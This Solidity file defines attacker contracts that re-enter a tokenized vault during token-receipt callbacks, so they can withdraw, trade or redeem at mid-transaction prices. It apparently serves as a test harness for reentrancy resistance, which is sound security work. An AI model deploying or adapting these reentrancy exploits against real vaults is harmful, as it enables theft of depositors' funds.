interface Exit {
    function deposit(uint256 assets, address receiver) external returns (uint256);
    function redeem(uint256 shares, address receiver, address holder) external returns (uint256);
    function withdraw(uint256 assets, address receiver, address holder) external returns (uint256);
    function toAssets(uint256 shares, uint8 rounding) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
}

/// Takes a part out, and does something while it is being paid.
abstract contract Reenterer {
    Token internal immutable token;
    Exit internal immutable vault;
    bool private waits;

    constructor(Token coin, Exit target) {
        (token, vault) = (coin, target);
    }

    function stay(uint256 amount, uint256 part) internal {
        token.approve(address(vault), type(uint256).max);
        vault.deposit(amount, address(this));
        token.tellMe(true);
        waits = true;
        vault.redeem(held() / part, address(this), address(this));
        token.tellMe(false);
        try vault.redeem(held(), address(this), address(this)) {} catch {}
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function tokensReceived(address, uint256) external {
        if (!waits) return;
        waits = false;
        whilePaid();
    }

    function whilePaid() public virtual;

    function held() internal view returns (uint256) {
        return vault.balanceOf(address(this));
    }
}

/// Withdraws the rest at the price of the moment while it is being paid.
contract Leaver is Reenterer {
    constructor(Token coin, Exit target) Reenterer(coin, target) {}

    function leave(uint256 amount, uint256 part) external {
        stay(amount, part);
    }

    function whilePaid() public override {
        uint256 worth = vault.toAssets(held(), 0);
        uint256 there = token.balanceOf(address(vault));
        vault.withdraw(worth < there ? worth : there, address(this), address(this));
    }
}

/// Buys or sells while it is being paid, whichever the price of the moment makes worth it.
contract Trader is Reenterer {
    uint256 private usual;

    constructor(Token coin, Exit target) Reenterer(coin, target) {}

    function trade(uint256 amount, uint256 part) external {
        usual = price();
        stay(amount, part);
    }

    function whilePaid() public override {
        if (price() > usual) vault.redeem(held() / 2, address(this), address(this));
        else vault.deposit(token.balanceOf(address(this)), address(this));
    }

    function price() private view returns (uint256) {
        return vault.toAssets(1 ether, 0);
    }
}

/// Has its shares paid to another contract of its own, and redeems the rest while that one is being paid.
contract Sharer is Reenterer {
    Till private immutable till;

    constructor(Token coin, Exit target) Reenterer(coin, target) {
        till = new Till(coin);
    }

    function share(uint256 amount, uint256 part) external {
        token.approve(address(vault), amount);
        vault.deposit(amount, address(this));
        vault.redeem(held() / part, address(till), address(this));
        try vault.redeem(held(), address(this), address(this)) {} catch {}
        till.empty();
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function whilePaid() public override {
        (uint256 worth, uint256 there) = (vault.toAssets(held(), 0), token.balanceOf(address(vault)));
        vault.redeem(worth > there ? held() * there / worth : held(), address(this), address(this));
    }
}

/// Is paid for its maker, and says so.
contract Till {
    Token private immutable token;
    Sharer private immutable maker = Sharer(msg.sender);
    bool private full;

    constructor(Token coin) {
        token = coin;
        coin.tellMe(true);
    }

    function tokensReceived(address, uint256) external {
        if (full) return;
        full = true;
        maker.whilePaid();
    }

    function empty() external {
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }
}
